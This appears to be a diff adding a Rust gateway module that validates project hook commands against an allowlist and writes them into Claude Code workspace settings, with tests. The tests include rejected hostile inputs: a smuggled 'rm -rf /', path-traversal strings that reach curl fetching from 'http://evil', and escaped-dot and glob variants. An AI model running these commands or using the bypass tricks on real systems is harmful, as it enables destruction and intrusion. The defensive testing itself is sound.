@@ -0,0 +1,219 @@
+//! Claude Code hooks per project, set through `/v1/projects/{id}/hooks` and
+//! written to the workspace's `.claude/settings.json` before each run, so
+//! the CLI enforces them (e.g. a `PreToolUse` hook refusing `rm -rf`).
+//!
+//! Hooks run arbitrary commands on the gateway's host, so only commands in
+//! `HOOK_COMMAND_ALLOWLIST` are accepted: exact commands, or prefixes
+//! ending in `*`, whose remainder may not contain shell operators, quoting,
+//! globs or `..` path components (so `/opt/hooks/*` only runs files under
+//! `/opt/hooks/`, though with any arguments). With an allowlist configured
+//! the gateway owns the workspace's hooks: ones the API didn't set,
+//! including hooks a run wrote into the settings itself, are removed before
+//! the next run. Without one, workspaces are left alone.
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use serde_json::{Map, Value};
+
+use crate::db;
+use crate::error::AppError;
+use crate::models::openai::HookMatcher;
+use crate::state::AppState;
+
+/// Hook events of the CLI.
+pub const EVENTS: &[&str] = &[
+    "PreToolUse",
+    "PostToolUse",
+    "UserPromptSubmit",
+    "Notification",
+    "Stop",
+    "SubagentStop",
+    "PreCompact",
+    "SessionStart",
+    "SessionEnd",
+];
+
+/// Characters that would let a prefix-allowed command run something else.
+const SHELL_OPERATORS: &[char] = &[';', '&', '|', '`', '$', '<', '>', '(', ')', '\n', '\r'];
+
+/// Characters the shell would rewrite a path with, e.g. `\.\.` or `.?`
+/// into `..`.
+const SHELL_EXPANSIONS: &[char] = &['\\', '"', '\'', '*', '?', '[', '~', '{'];
+
+/// Whether `allowlist` permits `command`.
+pub fn allowed(allowlist: &[String], command: &str) -> bool {
+    allowlist.iter().any(|entry| match entry.strip_suffix('*') {
+        Some(prefix) => command.strip_prefix(prefix).is_some_and(|rest| {
+            let leaves_prefix = rest.split(|c: char| c == '/' || c.is_whitespace()).any(|part| part == "..");
+            !rest.contains(SHELL_OPERATORS) && !rest.contains(SHELL_EXPANSIONS) && !leaves_prefix
+        }),
+        None => command == entry,
+    })
+}
+
+/// Check hooks sent to the API: known events, `command` hooks only, and
+/// every command allowed.
+pub fn validate(hooks: &BTreeMap<String, Vec<HookMatcher>>, allowlist: &[String]) -> Result<(), AppError> {
+    let invalid = |message: String| AppError::InvalidParam { param: "hooks".to_string(), message };
+    if allowlist.is_empty() {
+        return Err(invalid("project hooks are disabled; set HOOK_COMMAND_ALLOWLIST".to_string()));
+    }
+    for (event, matchers) in hooks {
+        if !EVENTS.contains(&event.as_str()) {
+            return Err(invalid(format!("unknown event '{event}'")));
+        }
+        for hook in matchers.iter().flat_map(|m| &m.hooks) {
+            if hook.kind != "command" {
+                return Err(invalid(format!("unsupported hook type '{}'", hook.kind)));
+            }
+            if !allowed(allowlist, &hook.command) {
+                return Err(invalid(format!("command '{}' is not in HOOK_COMMAND_ALLOWLIST", hook.command)));
+            }
+        }
+    }
+    Ok(())
+}
+
+/// The project's stored hooks still allowed by `allowlist`, which may have
+/// shrunk since they were set.
+fn permitted(project_id: &str, hooks: Value, allowlist: &[String]) -> Map<String, Value> {
+    let hooks: BTreeMap<String, Vec<HookMatcher>> = serde_json::from_value(hooks).unwrap_or_default();
+    let mut permitted = Map::new();
+    for (event, mut matchers) in hooks {
+        for matcher in &mut matchers {
+            matcher.hooks.retain(|hook| {
+                let ok = allowed(allowlist, &hook.command);
+                if !ok {
+                    tracing::warn!(project_id, command = %hook.command, "Skipping hook no longer in HOOK_COMMAND_ALLOWLIST");
+                }
+                ok
+            });
+        }
+        matchers.retain(|m| !m.hooks.is_empty());
+        if !matchers.is_empty() {
+            permitted.insert(event, serde_json::to_value(matchers).unwrap_or_default());
+        }
+    }
+    permitted
+}
+
+/// Write the project's hooks into its workspace settings, replacing any
+/// others. Does nothing when no allowlist is configured. Failures are
+/// logged; the run goes ahead.
+pub async fn materialize(state: &AppState, project_id: &str, project_dir: &Path) -> Result<(), AppError> {
+    let allowlist = state.config().hook_command_allowlist.clone();
+    if allowlist.is_empty() {
+        return Ok(());
+    }
+    let hooks = match db::get_hooks(&state.db, project_id).await? {
+        Some(row) => permitted(project_id, row.hooks.0, &allowlist),
+        None => Map::new(),
+    };
+    let dir = project_dir.join(".claude");
+    let hooks = (!hooks.is_empty()).then_some(Value::Object(hooks));
+    set_hooks(&dir.join("settings.json"), hooks).await;
+    // Local settings are merged over the project's; they get no hooks
+    set_hooks(&dir.join("settings.local.json"), None).await;
+    Ok(())
+}
+
+/// Set or remove the `hooks` of a settings file, keeping its other keys.
+async fn set_hooks(path: &Path, hooks: Option<Value>) {
+    let current = tokio::fs::read_to_string(path).await.ok();
+    let mut settings = match current.as_deref().map(serde_json::from_str::<Value>) {
+        Some(Ok(Value::Object(settings))) => settings,
+        None if hooks.is_none() => return,
+        None => Map::new(),
+        Some(_) => {
+            tracing::warn!(path = %path.display(), "Replacing unreadable workspace settings");
+            Map::new()
+        }
+    };
+    match hooks {
+        Some(hooks) => settings.insert("hooks".to_string(), hooks),
+        None => settings.remove("hooks"),
+    };
+    let content = serde_json::to_string_pretty(&settings).unwrap_or_default();
+    if current.as_deref() == Some(content.as_str()) {
+        return;
+    }
+    let write = async {
+        if let Some(dir) = path.parent() {
+            tokio::fs::create_dir_all(dir).await?;
+        }
+        tokio::fs::write(path, content).await
+    };
+    if let Err(e) = write.await {
+        tracing::warn!(path = %path.display(), error = %e, "Failed to write workspace hooks");
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    #[cfg(unix)]
+    use crate::claude::process::testing::run_cli;
+
+    #[test]
+    fn test_allowed() {
+        let allowlist = vec!["/opt/hooks/block-rm.sh".to_string(), "python3 /opt/hooks/*".to_string()];
+        assert!(allowed(&allowlist, "/opt/hooks/block-rm.sh"));
+        assert!(!allowed(&allowlist, "/opt/hooks/block-rm.sh --off"));
+        assert!(allowed(&allowlist, "python3 /opt/hooks/audit.py --strict"));
+        assert!(!allowed(&allowlist, "python3 /opt/hooks/audit.py; rm -rf /"));
+        assert!(!allowed(&allowlist, "python3 /tmp/x.py"));
+        assert!(!allowed(&allowlist, "python3 /opt/hooks/../../tmp/x.py"));
+
+        let scripts = vec!["/opt/hooks/*".to_string()];
+        assert!(allowed(&scripts, "/opt/hooks/audit.sh --strict"));
+        assert!(!allowed(&scripts, "/opt/hooks/../../usr/bin/curl -o /tmp/x http://evil"));
+        assert!(!allowed(&scripts, "/opt/hooks/audit.sh .. "));
+        assert!(!allowed(&scripts, "/opt/hooks/\\.\\./\\.\\./usr/bin/curl"));
+        assert!(!allowed(&scripts, "/opt/hooks/.?/.?/usr/bin/curl"));
+
+        let hooks = serde_json::json!({
+            "PreToolUse": [{"matcher": "Bash", "hooks": [
+                {"type": "command", "command": "/opt/hooks/block-rm.sh"},
+                {"type": "command", "command": "/opt/hooks/old.sh"},
+            ]}],
+            "Stop": [{"hooks": [{"type": "command", "command": "/opt/hooks/old.sh"}]}],
+        });
+        let parsed: BTreeMap<String, Vec<HookMatcher>> = serde_json::from_value(hooks.clone()).unwrap();
+        assert!(validate(&parsed, &allowlist).is_err());
+        assert!(validate(&parsed, &[]).is_err());
+        // Stored hooks dropped from the allowlist are left out
+        let kept = permitted("p", hooks, &allowlist);
+        assert_eq!(
+            Value::Object(kept),
+            serde_json::json!({"PreToolUse": [{"matcher": "Bash", "hooks": [
+                {"type": "command", "command": "/opt/hooks/block-rm.sh"},
+            ]}]})
+        );
+    }
+
+    #[tokio::test]
+    async fn test_set_hooks_keeps_other_settings() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("settings.json");
+        std::fs::write(&path, r#"{"model": "sonnet", "hooks": {"Stop": []}}"#).unwrap();
+        set_hooks(&path, None).await;
+        let settings: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
+        assert_eq!(settings, serde_json::json!({"model": "sonnet"}));
+
+        // No file and nothing to set: nothing is written
+        set_hooks(&dir.path().join("settings.local.json"), None).await;
+        assert!(!dir.path().join("settings.local.json").exists());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_cli_finds_hooks() {
+        let dir = tempfile::tempdir().unwrap();
+        let hooks = serde_json::json!({"Stop": [{"hooks": [{"type": "command", "command": "/opt/hooks/done.sh"}]}]});
+        set_hooks(&dir.path().join(".claude/settings.json"), Some(hooks)).await;
+        // The CLI reads the project's settings relative to its working directory
+        let found = run_cli(dir.path(), "grep -o /opt/hooks/done.sh .claude/settings.json").await;
+        assert_eq!(found, "/opt/hooks/done.sh");
+    }
+}